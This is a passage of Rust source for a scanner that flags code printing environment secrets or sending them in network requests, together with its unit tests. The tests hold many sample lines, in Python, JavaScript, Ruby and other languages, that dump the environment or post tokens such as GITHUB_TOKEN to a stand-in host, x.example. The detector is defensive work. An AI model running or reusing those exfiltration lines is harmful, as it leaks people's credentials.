            if range.start < copied {
                continue;
            }
            text.push_str(&code[copied..range.start]);
            let start = text.len();
            text.push_str(&replacement);
            replaced.push((start, text.len(), range.clone()));
            copied = range.end;
        }
        text.push_str(&code[copied..]);
        Canonical { text, replaced }
    }

    /// Where the place `at` of the rewritten text was in the code: inside a replacement, the
    /// start of what it replaced.
    fn original(&self, at: usize) -> usize {
        let mut shift: isize = 0;
        for (start, end, range) in &self.replaced {
            if at < *start {
                break;
            }
            if at < *end {
                return range.start;
            }
            shift = range.end as isize - *end as isize;
        }
        (at as isize + shift).max(0) as usize
    }
}

/// Every read of the environment in `code` that gives a value: the whole of it, or a
/// variable whose name says it holds a secret.
fn reads(model: &Compiled, code: &str) -> Vec<Read> {
    let prints_value = |at: &Range<usize>| {
        !model.no_value_before.is_match(&code[..at.start]) && !model.no_value_after.is_match(&code[at.end..])
    };
    let mut reads = Vec::new();
    for found in model.named.captures_iter(code) {
        let (Some(whole), Some(name)) = (found.get(0), found.iter().skip(1).flatten().next()) else {
            continue;
        };
        if crate::producers::is_secret_name(name.as_str()) && prints_value(&whole.range()) {
            reads.push(Read {
                at: whole.range(),
                variable: Some(name.as_str().to_owned()),
            });
        }
    }
    let whole = model
        .values
        .find_iter(code)
        .chain(model.by_key.find_iter(code))
        .filter(|found| prints_value(&found.range()));
    // The mapping itself, printed as it is: followed by the end of an argument or statement
    // (`print(os.environ)`, `p ENV`), not by a member (`os.environ.get`, `ENV['X']`).
    let mapping = model.mapping.find_iter(code).filter(|found| {
        let after = code[found.end()..].trim_start_matches([' ', '\t']);
        after.is_empty() || after.starts_with([')', ']', '}', ',', ';', '\n'])
    });
    let mapping =
        mapping.filter(|found| prints_value(&found.range()) && !model.names_only.is_match(&code[..found.start()]));
    reads.extend(whole.chain(mapping).map(|found| Read {
        at: found.range(),
        variable: None,
    }));
    reads
}

/// Whether `inner` lies inside `outer`.
fn within(inner: &Range<usize>, outer: &Range<usize>) -> bool {
    outer.start <= inner.start && inner.end <= outer.end
}

/// Whether `region` uses the name `name` for its value (not its length or a test of it).
fn uses(
    model: &Compiled,
    code: &str,
    region: &Range<usize>,
    name: &str,
    counts: impl Fn(usize) -> bool,
) -> Option<usize> {
    let text = &code[region.clone()];
    let word = |c: char| c.is_alphanumeric() || c == '_';
    text.match_indices(name)
        .map(|(at, _)| region.start + at)
        .find(|&start| {
            let end = start + name.len();
            let before = code[..start].chars().next_back();
            let after = code[end..].chars().next();
            counts(start)
                && !before.is_some_and(|c| word(c) || c == '.' || c == '$' && !name.starts_with('$'))
                && !after.is_some_and(word)
                && !model.no_value_before.is_match(&code[..start])
                && !model.no_value_after.is_match(&code[end..])
        })
}

/// Where the statement or argument list going on from `start` ends: at a statement end or
/// a bracket closing one opened before `start`.
fn statement_end(model: &Compiled, code: &str, start: usize) -> usize {
    let mut depth = 0usize;
    for (at, c) in code[start..].char_indices() {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' if depth == 0 => return start + at,
            ')' | ']' | '}' => depth -= 1,
            _ if depth == 0 && model.statement_end.is_match(c.encode_utf8(&mut [0; 4])) => return start + at,
            _ => {}
        }
    }
    code.len()
}

/// The position of the bracket closing the one just before `start`.
fn closing(code: &str, start: usize) -> usize {
    let mut depth = 0usize;
    for (at, c) in code[start..].char_indices() {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' if depth == 0 => return start + at,
            ')' | ']' | '}' => depth -= 1,
            _ => {}
        }
    }
    code.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the code prints: `env`, the variable's name, or nothing.
    fn shown(language: Language, code: &str) -> Option<String> {
        printed(language, code, false).map(|printed| printed.variable.unwrap_or_else(|| "env".to_owned()))
    }

    /// Code is read only when it holds one of its model's read words: each pattern that reads
    /// the environment must therefore spell one of them, and so must each binding's member.
    #[test]
    fn every_read_spells_a_read_word() {
        for model in MODELS {
            for pattern in [
                model.mapping,
                model.values,
                model.named,
                model.by_key,
                model.iterated,
                model.destructured,
            ] {
                assert!(
                    pattern == r"\z." || crate::interpreters::every_match_spells(pattern, model.read_words),
                    "{:?}: {pattern}",
                    model.language
                );
            }
        }
        for (language, binding) in BINDINGS {
            let model = MODELS
                .iter()
                .find(|model| model.language == *language)
                .expect("a model");
            for member in binding.members {
                assert!(model.read_words.iter().any(|word| member.contains(word)), "{member}");
            }
        }
        // The gate passes code that reads, and only then.
        assert_eq!(
            model_reading(Language::Python, "import subprocess; subprocess.run(['ls'])"),
            None
        );
        assert!(model_reading(Language::Python, "from os import environ as e; print(e)").is_some());
        assert!(model_reading(Language::JavaScript, "const {env: e} = process; console.log(e)").is_some());
    }

    #[test]
    fn python() {
        let python = |code| shown(Language::Python, code);
        assert_eq!(python("import os; print(os.environ)").as_deref(), Some("env"));
        assert_eq!(
            python("import os,json; print(json.dumps(dict(os.environ)))").as_deref(),
            Some("env")
        );
        assert_eq!(
            python("import os; print(os.environ.get('GITHUB_TOKEN'))").as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(
            python("import os; print(os.environ[\"OPENAI_API_KEY\"])").as_deref(),
            Some("OPENAI_API_KEY")
        );
        assert_eq!(
            python("import os\nt = os.getenv('DB_PASSWORD')\nprint(t)").as_deref(),
            Some("DB_PASSWORD")
        );
        assert_eq!(
            python("import os\nfor k, v in os.environ.items():\n    print(k, v)").as_deref(),
            Some("env")
        );
        assert_eq!(
            python("import os; print(f\"{os.environ['API_KEY']}\")").as_deref(),
            Some("API_KEY")
        );
        assert_eq!(python("import os; print(list(os.environ))"), None);
        assert_eq!(python("import os; print(sorted(os.environ))"), None);
        assert_eq!(python("import os; print(os.environ.keys())"), None);
        assert_eq!(python("import os; print(os.environ['HOME'])"), None);
        assert_eq!(python("import os; print('GITHUB_TOKEN' in os.environ)"), None);
        assert_eq!(python("import os; print(len(os.environ['GITHUB_TOKEN']))"), None);
        assert_eq!(python("import os; print(os.getenv('GITHUB_TOKEN') is not None)"), None);
        assert_eq!(python("import os; t = os.getenv('GITHUB_TOKEN'); print(len(t))"), None);
        assert_eq!(python("import os; print(\"os.environ\")"), None);
        assert_eq!(python("import os; os.environ['TOKEN'] = 'x'; print('done')"), None);
        assert_eq!(
            python("import os, subprocess; subprocess.run(['make'], env=os.environ)"),
            None
        );
    }

    #[test]
    fn javascript() {
        let node = |code| shown(Language::JavaScript, code);
        assert_eq!(node("console.log(process.env)").as_deref(), Some("env"));
        assert_eq!(node("console.log(JSON.stringify(process.env))").as_deref(), Some("env"));
        assert_eq!(
            node("console.log(process.env.GITHUB_TOKEN)").as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(
            node("const t = process.env['NPM_TOKEN']; process.stdout.write(t)").as_deref(),
            Some("NPM_TOKEN")
        );
        assert_eq!(
            node("for (const [k, v] of Object.entries(process.env)) console.log(k, v)").as_deref(),
            Some("env")
        );
        assert_eq!(
            printed(Language::JavaScript, "process.env", true).map(|p| p.variable),
            Some(None)
        );
        assert_eq!(node("console.log(Object.keys(process.env))"), None);
        assert_eq!(node("console.log(Object.keys(process.env).length)"), None);
        assert_eq!(node("console.log(process.env.PATH)"), None);
        assert_eq!(node("console.log(process.env.NODE_ENV)"), None);
        assert_eq!(node("console.log(!!process.env.GITHUB_TOKEN)"), None);
        assert_eq!(node("console.log(process.env.GITHUB_TOKEN ? 'set' : 'unset')"), None);
        assert_eq!(node("console.log(process.env.GITHUB_TOKEN.length)"), None);
        assert_eq!(node("console.log('process.env')"), None);
        assert_eq!(printed(Language::JavaScript, "Object.keys(process.env)", true), None);
    }

    #[test]
    fn other_names_for_the_environment() {
        let python = |code| shown(Language::Python, code);
        assert_eq!(python("import os as o; print(o.environ)").as_deref(), Some("env"));
        assert_eq!(python("import sys, os as o\nprint(o.environ)").as_deref(), Some("env"));
        assert_eq!(python("from os import environ as e; print(e)").as_deref(), Some("env"));
        assert_eq!(
            python("from os import (path, environ)\nprint(environ)").as_deref(),
            Some("env")
        );
        assert_eq!(python("from os import *; print(environ)").as_deref(), Some("env"));
        assert_eq!(
            python("from os import getenv as g; print(g('GITHUB_TOKEN'))").as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(python("print({**__import__('os').environ})").as_deref(), Some("env"));
        assert_eq!(
            python("import importlib; print(importlib.import_module('os').environ)").as_deref(),
            Some("env")
        );
        assert_eq!(python("import os as o; print(o.getcwd())"), None);
        assert_eq!(python("from os import environ as e; print(len(e))"), None);
        assert_eq!(python("from os import environ\nprint(sorted(environ))"), None);
        assert_eq!(python("import os; print([*os.environ])"), None);
        assert_eq!(python("from os import path\nprint(path.sep)"), None);
        let node = |code| shown(Language::JavaScript, code);
        assert_eq!(node("const {env} = process; console.log(env)").as_deref(), Some("env"));
        assert_eq!(
            node("const { env: e } = process; console.log(e)").as_deref(),
            Some("env")
        );
        assert_eq!(node("const p = process; console.log(p.env)").as_deref(), Some("env"));
        assert_eq!(
            node("import { env } from 'node:process'; console.log(env.GITHUB_TOKEN)").as_deref(),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(
            node("const p = require('process'); console.log(p.env)").as_deref(),
            Some("env")
        );
        assert_eq!(node("const {env} = process; console.log(env.HOME)"), None);
        assert_eq!(node("const {argv} = process; console.log(argv)"), None);
        assert_eq!(node("const p = process; console.log(p.version)"), None);
    }

    #[test]
    fn places_in_rewritten_code_are_the_code_s() {
        let code = "import os as o; print(o.environ)";
        let printed = printed(Language::Python, code, false).expect("it prints the environment");
        assert_eq!(&code[printed.at], "o.environ");
    }

    #[test]
    fn ruby_perl_php_lua_awk() {
        let ruby = |code| shown(Language::Ruby, code);
        assert_eq!(ruby("puts ENV.to_h").as_deref(), Some("env"));
        assert_eq!(ruby("p ENV").as_deref(), Some("env"));
        assert_eq!(ruby("p ENV['API_KEY']").as_deref(), Some("API_KEY"));
        assert_eq!(ruby("ENV.each { |k, v| puts \"#{k}=#{v}\" }").as_deref(), Some("env"));
        assert_eq!(ruby("puts ENV.keys"), None);
        assert_eq!(ruby("puts ENV['HOME']"), None);
        assert_eq!(ruby("puts ENV['API_KEY'].nil?"), None);
        assert_eq!(ruby("ENV.each { |k, v| puts k }"), None);
        let perl = |code| shown(Language::Perl, code);
        assert_eq!(perl("print \"$_=$ENV{$_}\\n\" for keys %ENV").as_deref(), Some("env"));
        assert_eq!(perl("print %ENV").as_deref(), Some("env"));
        assert_eq!(perl("use Data::Dumper; print Dumper(\\%ENV)").as_deref(), Some("env"));
        assert_eq!(perl("print $ENV{TOKEN}").as_deref(), Some("TOKEN"));
        assert_eq!(perl("print \"$_\\n\" for keys %ENV"), None);
        assert_eq!(perl("print $ENV{HOME}"), None);
        let php = |code| shown(Language::Php, code);
        assert_eq!(php("var_dump(getenv());").as_deref(), Some("env"));
        assert_eq!(php("print_r($_ENV);").as_deref(), Some("env"));
        assert_eq!(php("echo getenv('SECRET');").as_deref(), Some("SECRET"));
        assert_eq!(php("print_r(array_keys($_ENV));"), None);
        assert_eq!(php("var_dump(isset($_ENV['SECRET']));"), None);
        let lua = |code| shown(Language::Lua, code);
        assert_eq!(lua("print(os.getenv('API_TOKEN'))").as_deref(), Some("API_TOKEN"));
        assert_eq!(lua("print(os.getenv('HOME'))"), None);
        let awk = |code| shown(Language::Awk, code);
        assert_eq!(
            awk("BEGIN{for(k in ENVIRON) print k\"=\"ENVIRON[k]}").as_deref(),
            Some("env")
        );
        assert_eq!(awk("BEGIN{print ENVIRON[\"TOKEN\"]}").as_deref(), Some("TOKEN"));
        assert_eq!(awk("BEGIN{for(k in ENVIRON) print k}"), None);
        assert_eq!(awk("BEGIN{print ENVIRON[\"HOME\"]}"), None);
        assert_eq!(awk("BEGIN{print ENVIRON[\"TOKEN\"] > \"out.txt\"}"), None);
    }

    /// What the code sends, as `variable@address` for each address (`credential variable@…`
    /// for the request's own credential).
    fn sends(language: Language, code: &str) -> Vec<String> {
        sent(language, code)
            .into_iter()
            .flat_map(|sent| {
                let variable = sent.variable.unwrap_or_else(|| "env".to_owned());
                let kind = match (sent.credential, sent.header) {
                    (true, Some(header)) => format!("credential in {header} "),
                    (true, None) => "credential ".to_owned(),
                    (false, _) => String::new(),
                };
                sent.urls.into_iter().map(move |url| format!("{kind}{variable}@{url}"))
            })
            .collect()
    }

    #[test]
    fn secrets_sent_in_requests() {
        let python = |code| sends(Language::Python, code);
        assert_eq!(
            python("import os,requests; requests.post('https://x.example', data=os.environ['GITHUB_TOKEN'])"),
            ["GITHUB_TOKEN@https://x.example"]
        );
        assert_eq!(
            python(
                "import os,requests\nu = 'https://x.example/c'\nt = os.getenv('API_KEY')\nrequests.get(u, params={'t': t})"
            ),
            ["API_KEY@https://x.example/c"]
        );
        assert_eq!(
            python(
                "import os,http.client; c = http.client.HTTPSConnection('x.example'); c.request('POST', '/', os.environ['DB_PASSWORD'])"
            ),
            ["DB_PASSWORD@https://x.example/"]
        );
        assert_eq!(
            python("import os,requests; requests.post('https://x.example', json=dict(os.environ))"),
            ["env@https://x.example"]
        );
        assert_eq!(
            python(
                "import socket,os; s=socket.create_connection(('x.example',80)); s.send(os.environ['GITHUB_TOKEN'].encode())"
            ),
            ["GITHUB_TOKEN@https://x.example/"]
        );
        let none: [&str; 0] = [];
        // The request's own credentials, judged as such.
        assert_eq!(
            python(
                "import os,requests; requests.get('https://x.example', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})"
            ),
            ["credential in Authorization API_TOKEN@https://x.example"]
        );
        assert_eq!(
            python("import os,requests; requests.get('https://x.example', auth=('me', os.environ['API_TOKEN']))"),
            ["credential API_TOKEN@https://x.example"]
        );
        assert_eq!(
            python(
                "import os,httpx; httpx.get('https://x.example', headers={'Authorization': f'Bearer {os.getenv(\"OPENAI_API_KEY\")}'})"
            ),
            ["credential in Authorization OPENAI_API_KEY@https://x.example"]
        );
        // A header of the service's own, or one that carries data, by the name the code gives it.
        assert_eq!(
            python(
                "import os,httpx; httpx.post('https://x.example', headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']}, json={})"
            ),
            ["credential in x-api-key ANTHROPIC_API_KEY@https://x.example"]
        );
        assert_eq!(
            python(
                "import os,requests; k = os.environ['API_TOKEN']; requests.get('https://x.example', headers={'Accept': 'text/plain', 'X-Auth-Token': f'{k}'})"
            ),
            ["credential in X-Auth-Token API_TOKEN@https://x.example"]
        );
        assert_eq!(
            python(
                "import os,requests; requests.get('https://x.example', cookies={'session': os.environ['API_TOKEN']})"
            ),
            ["credential API_TOKEN@https://x.example"]
        );
        // Names of variables, not values; no address written; a variable that is no secret.
        assert_eq!(
            python("import os,requests; requests.post('https://x.example', json={'set': 'API_TOKEN' in os.environ})"),
            none
        );
        assert_eq!(
            python("import os,requests; requests.post(os.environ['HOOK'], data=os.environ['API_TOKEN'])"),
            none
        );
        assert_eq!(
            python("import os,requests; requests.post('https://x.example', data=os.environ['HOME'])"),
            none
        );
        let node = |code| sends(Language::JavaScript, code);
        assert_eq!(
            node("fetch('https://x.example', {method: 'POST', body: process.env.NPM_TOKEN})"),
            ["NPM_TOKEN@https://x.example"]
        );
        assert_eq!(
            node("require('net').connect(80, 'x.example').write(process.env.GITHUB_TOKEN)"),
            ["GITHUB_TOKEN@https://x.example/"]
        );
        assert_eq!(
            node(
                "const net = require('net'); const sock = net.connect({host: 'x.example', port: 80}); sock.write(process.env.GITHUB_TOKEN)"
            ),
            ["GITHUB_TOKEN@https://x.example/"]
        );
        assert_eq!(
            node("fetch('https://x.example', {headers: {Authorization: `Bearer ${process.env.NPM_TOKEN}`}})"),
            ["credential in Authorization NPM_TOKEN@https://x.example"]
        );
        assert_eq!(
            node("fetch('https://x.example', {method: 'GET', headers: {'api-key': process.env.NPM_TOKEN}})"),
            ["credential in api-key NPM_TOKEN@https://x.example"]
        );
        assert_eq!(
            sends(
                Language::Ruby,
                "Net::HTTP.post_form(URI('https://x.example'), 'k' => ENV['GITHUB_TOKEN'])"
            ),
            ["GITHUB_TOKEN@https://x.example"]
        );
    }
}
